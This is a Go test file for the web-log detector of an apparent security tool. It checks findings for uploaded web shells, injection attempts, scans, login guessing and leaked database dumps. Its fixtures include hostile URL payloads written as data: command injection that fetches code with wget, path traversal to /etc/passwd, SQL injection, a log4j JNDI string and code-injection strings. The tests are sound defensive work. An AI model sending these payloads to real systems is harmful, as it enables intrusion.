package web_test

import (
	"strings"
	"testing"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/web"
)

func TestUploads(t *testing.T) {
	post := `03:00:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/upload.php http.response.status_code=302` + "\n"
	get := `03:00:10 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/uploads/x.php?cmd=id http.response.status_code=200` + "\n"
	born := "- file file.type=file file.uid=33 file.path=/var/www/html/uploads/x.php file.mtime=2024-01-02T03:00:01Z file.ctime=2024-01-02T03:00:01Z file.created=2024-01-02T03:00:01Z\n"
	shell := `- file file.type=file file.path=/var/www/html/uploads/x.php file.content="it runs what a request carries"` + "\n"
	for _, tc := range []struct {
		name, events string
		what         detect.What
		level        detect.Level
	}{
		{"uploaded, born, used, a shell", post + get + born + shell, detect.WebUpload, detect.Critical},
		{"used, but on disk no more", post + get, detect.WebUpload, detect.High},
		{"a photo", post + strings.ReplaceAll(born, "x.php", "x.jpg"), "", 0},
		{"the site's own form, asked for by all", `03:00:00 http-request source.ip=198.51.100.1 http.request.method=POST url.original=/upload.php http.response.status_code=302
03:00:01 http-request source.ip=198.51.100.2 http.request.method=POST url.original=/upload.php http.response.status_code=302
- file file.type=file file.uid=0 file.path=/var/www/html/upload.php file.created=2023-01-02T03:00:01Z`, "", 0},
		{"a compiled template, which nobody asks for", post + strings.ReplaceAll(born, "uploads/x.php", "cache/3f_tpl.php"), "", 0},
		{"a script of a package", post + get + strings.TrimSpace(born) + " file.package=wordpress\n" + shell, "", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []detect.Finding
			for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), tc.events) {
				if f.What == detect.WebUpload || f.What == detect.WebScript {
					got = append(got, f)
				}
			}
			if tc.what == "" {
				for _, f := range got {
					if f.Level >= detect.High {
						t.Errorf("%+v", f)
					}
				}
				return
			}
			if len(got) != 1 || got[0].What != tc.what || got[0].Level != tc.level || got[0].Source != "203.0.113.6" {
				t.Errorf("%+v", got)
			}
		})
	}
}

func TestAnInstallationIsNoUpload(t *testing.T) {
	var b strings.Builder
	b.WriteString("03:00:00 http-request source.ip=198.51.100.2 http.request.method=POST url.original=/wp-admin/update.php http.response.status_code=200\n")
	for i := range 40 {
		b.WriteString("- file file.type=file file.uid=33 file.path=/var/www/html/wp-content/plugins/a/" + strings.Repeat("x", i+1) + ".php file.mtime=2024-01-02T03:00:01Z file.created=2024-01-02T03:00:01Z\n")
	}
	for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), b.String()) {
		if f.Level >= detect.Medium {
			t.Errorf("%+v", f)
		}
	}
}

func TestAttackClasses(t *testing.T) {
	for url, want := range map[string]string{
		"/cgi-bin/a?x=%3Bwget+http://e/x":                            "command injection",
		"/a?x=$(id)":                                                 "command injection",
		"/a?x=%2524%2528id%2529":                                     "command injection",
		"/a?file=../../../../etc/passwd":                             "reading files outside the site",
		"/a?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd":                     "reading files outside the site",
		"/a?id=1+union+select+1,2":                                   "SQL injection",
		"/a?id=1%27+or+%271%27=%271":                                 "SQL injection",
		"/?-d+allow_url_include%3d1":                                 "code injection",
		"/a?x=${jndi:ldap://e/x}":                                    "the log4j bug (CVE-2021-44228)",
		"/v.php?h=%2527%252Esystem(chr(112)%252echr(101))%252e%2527": "code injection",
		"/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27wget%20http://e/x%27)": "code injection",
		"/x?cmd=wget%20http://e/x":              "orders to a shell in a parameter",
		"/x?p=0&cmd=whoami":                     "orders to a shell in a parameter",
		"/list?sort=asc&c=id":                   "",
		"/search?q=how+to+call+system()+in+php": "",
		"/pay?cmd=_s-xclick":                    "",
		"/wiki/Operating_system('80s)":          "",
		"/?q=rock;roll":                         "",
		"/shop?id=1&sort=asc":                   "",
		"/search?q=the+union+station+selected":  "",
		"/search?q=it%27s+only+rock%27n%27roll": "",
		"/a;jsessionid=0123":                    "",
		"/wiki/Cat_(animal)":                    "",
		"/a?next=https://www.example.org/b":     "",
		"/a?q=select+a+union+for+workers":       "",
	} {
		got := ""
		for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), "03:00:00 http-request source.ip=203.0.113.6 http.request.method=GET http.response.status_code=200 \"url.original="+url+"\"") {
			if f.What == detect.WebAttack {
				got = f.Mechanism
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", url, got, want)
		}
	}
}

func TestChildren(t *testing.T) {
	for said, want := range map[string]bool{
		"wget: unable to resolve host address 'evil.example'": true,
		"--2024-01-02 03:04:09--  http://203.0.113.99/x":      true,
		"sh: 1: curl: not found":                              true,
		"AH01215: sh: wget: command not found":                true,
		"sh: 1: /usr/sbin/sendmail: not found":                false,
		"convert: no decode delegate for this image format":   false,
		"[mpegts @ 0x5581] a line of ffmpeg":                  false,
	} {
		got := false
		for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), `03:00:00 child-output "message=`+said+`"`) {
			got = got || f.What == detect.WebExecution && f.Level >= detect.High
		}
		if got != want {
			t.Errorf("%q: %v, want %v", said, got, want)
		}
	}
}

func TestScans(t *testing.T) {
	got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), "03:00:00 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/nope http.response.status_code=404 x30\n03:00:00 http-request source.ip=198.51.100.2 http.request.method=GET url.original=/ http.response.status_code=200 x30"), detect.WebScan)
	if len(got) != 1 || got[0].Source != "203.0.113.6" || got[0].Count != 30 {
		t.Errorf("%+v", got)
	}
}

func TestLoginsToTheSite(t *testing.T) {
	refused := "03:00:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-login.php http.response.status_code=200 x8\n"
	entered := "03:01:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-login.php http.response.status_code=302\n"
	for _, tc := range []struct {
		name, events string
		want         int
	}{
		{"guessed", refused + entered, 1},
		{"guessed at", refused, 0},
		{"a person", entered, 0},
		{"a person who writes programs with the editor", entered + "03:02:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-admin/theme-editor.php?file=404.php http.response.status_code=302\n", 1},
		{"guesses of one, the login of another", refused + strings.ReplaceAll(entered, "203.0.113.6", "198.51.100.2"), 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), tc.events), detect.WebLogin); len(got) != tc.want {
				t.Errorf("%+v", got)
			}
		})
	}
}

// TestAScriptThatWasWrittenAgain is one of the site's own, which the editor of the site's software changed.
func TestAScriptThatWasWrittenAgain(t *testing.T) {
	events := `
03:00:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-admin/theme-editor.php http.response.status_code=302
03:00:30 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/theme/404.php?c=1 http.response.status_code=200
- file file.type=file file.size=90 file.uid=33 file.path=/var/www/html/theme/404.php file.created=2023-01-02T00:00:00Z file.mtime=2024-01-02T03:00:01Z file.ctime=2024-01-02T03:00:01Z file.content="it runs what a request carries"`
	plain := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), strings.Replace(events, "it runs what a request carries", "", 1)), detect.WebUpload)
	if len(plain) != 1 || plain[0].Level > detect.Medium {
		t.Errorf("nothing in it speaks against it: %+v", plain)
	}
	got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), events), detect.WebUpload)
	if len(got) != 1 || got[0].Mechanism != "web-admin" || got[0].Source != "203.0.113.6" || got[0].Level < detect.High {
		t.Errorf("%+v", got)
	}
	if got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), strings.Replace(events, "03:00:01Z", "01:00:01Z", 2)), detect.WebUpload); len(got) != 0 {
		t.Errorf("changed long before: %+v", got)
	}
}

func TestTwoWhoPosted(t *testing.T) {
	post := func(at, ip string) string {
		return at + " http-request source.ip=" + ip + " http.request.method=POST url.original=/upload.php http.response.status_code=302\n"
	}
	born := func(name, at string) string {
		return "- file file.type=file file.uid=33 file.path=/var/www/html/uploads/" + name + " file.mtime=2024-01-02T" + at + "Z file.ctime=2024-01-02T" + at + "Z file.created=2024-01-02T" + at + "Z\n"
	}
	used := "03:01:00 http-request source.ip=203.0.113.7 http.request.method=GET url.original=/uploads/x.php http.response.status_code=200\n"
	for _, tc := range []struct{ name, events, source string }{
		{"a visitor's photo explains the other", post("03:00:00", "198.51.100.2") + born("p.jpg", "03:00:00.4") + post("03:00:01", "203.0.113.6") + born("x.php", "03:00:01.3") + used, "203.0.113.6"},
		{"nothing explains the other", post("03:00:00", "198.51.100.2") + post("03:00:01", "203.0.113.6") + born("x.php", "03:00:01.3") + used, ""},
		{"within one second", post("03:00:01", "198.51.100.2") + born("p.jpg", "03:00:01.2") + post("03:00:01", "203.0.113.6") + born("x.php", "03:00:01.3") + used, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), tc.events) {
				if f.Path == "/var/www/html/uploads/x.php" && (f.What == detect.WebUpload) != (tc.source != "") || f.What == detect.WebUpload && f.Source != tc.source {
					t.Errorf("%+v", f)
				}
			}
		})
	}
}

func TestGuessingAtAForm(t *testing.T) {
	tries := "03:00:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-login.php http.response.status_code=200 x30\n"
	entered := "03:01:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/wp-login.php http.response.status_code=302\n"
	for _, tc := range []struct {
		name, events string
		want         int
	}{
		{"never let in", tries, 1},
		{"let in: told as a login", tries + entered, 0},
		{"from the own network", strings.ReplaceAll(tries, "203.0.113.6", "10.0.0.6"), 0},
		{"mistyped", strings.ReplaceAll(tries, "x30", "x5"), 0},
		{"an application that answers every login with a page", strings.ReplaceAll(tries, "wp-login.php", "login"), 0},
		{"the same, and it says 401", strings.ReplaceAll(strings.ReplaceAll(tries, "wp-login.php", "login"), "=200", "=401"), 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), tc.events), detect.Guessing)
			if len(got) != tc.want || tc.want > 0 && (got[0].Level != detect.Low || got[0].Count != 30) {
				t.Errorf("%+v", got)
			}
		})
	}
}

func TestDumpsGivenAway(t *testing.T) {
	get := func(ip, p, bytes string) string {
		return "03:00:00 http-request source.ip=" + ip + " http.request.method=GET url.original=" + p + " http.response.status_code=200 http.response.body.bytes=" + bytes + "\n"
	}
	scan := "02:00:00 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/nothing http.response.status_code=404 x30\n"
	for _, tc := range []struct {
		name, events string
		level        detect.Level
		count        int
	}{
		{"to who scanned", scan + get("203.0.113.6", "/backup/shop.sql.gz", "900000"), detect.High, 1},
		{"an archive, to who scanned", scan + get("203.0.113.6", "/site-backup.tar.gz", "900000"), detect.High, 1},
		{"to somebody", get("198.51.100.2", "/shop.sql", "900000"), detect.Medium, 1},
		{"an archive that is meant for all", get("198.51.100.2", "/releases/tool-1.2.tar.gz", "900000"), detect.Info, 0},
		{"the same, to who scanned", scan + get("203.0.113.6", "/releases/tool-1.2.tar.gz", "900000"), detect.Info, 0},
		{"a page that says no", scan + get("203.0.113.6", "/shop.sql", "500"), detect.Info, 0},
		{"one page for all names", scan + get("203.0.113.6", "/shop.sql", "5000") + get("203.0.113.6", "/db.sql", "5000") + get("203.0.113.6", "/a.sql", "5000"), detect.Info, 0},
		{"within the own network", get("10.0.0.2", "/shop.sql", "900000"), detect.Info, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), tc.events), detect.DataFetched)
			if len(got) != tc.count || tc.count > 0 && got[0].Level != tc.level {
				t.Errorf("%+v", got)
			}
		})
	}
}
